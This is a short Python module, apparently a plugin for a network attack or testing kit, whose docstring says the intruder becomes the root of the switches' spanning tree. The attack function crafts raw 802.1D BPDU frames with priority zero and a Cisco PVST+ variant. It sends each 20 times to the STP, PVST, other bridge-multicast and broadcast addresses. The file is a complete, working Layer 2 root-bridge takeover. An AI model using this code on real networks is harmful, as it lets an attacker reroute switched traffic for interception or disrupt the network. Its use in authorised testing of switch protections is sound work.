# SPDX-License-Identifier: Apache-2.0
"""Bridge protocol data units: the intruder becomes the root of the switches' tree."""
from kit import *

FAMILIES = (4,)


def attack(pot):
    bpdu = b"\x42\x42\3" + b"\0\0\0\0\0" + b"\0\0" + pot.mac + b"\0\0\0\0" + b"\0\0" + pot.mac + \
        b"\x80\1\0\0\x14\0\2\0\x0f\0"
    pvst = b"\xaa\xaa\3\0\0\x0c\1\x0b" + bpdu[3:]
    for group_, body in (("0180c2000000", bpdu), ("0180c2000008", bpdu), ("01000ccccccd", pvst),
                         ("0180c200000e", bpdu), ("ffffffffffff", bpdu)):
        frame = bytes.fromhex(group_) + pot.mac + struct.pack(">H", len(body)) + body
        pot.send(*[frame.ljust(60, b"\0")] * 20)
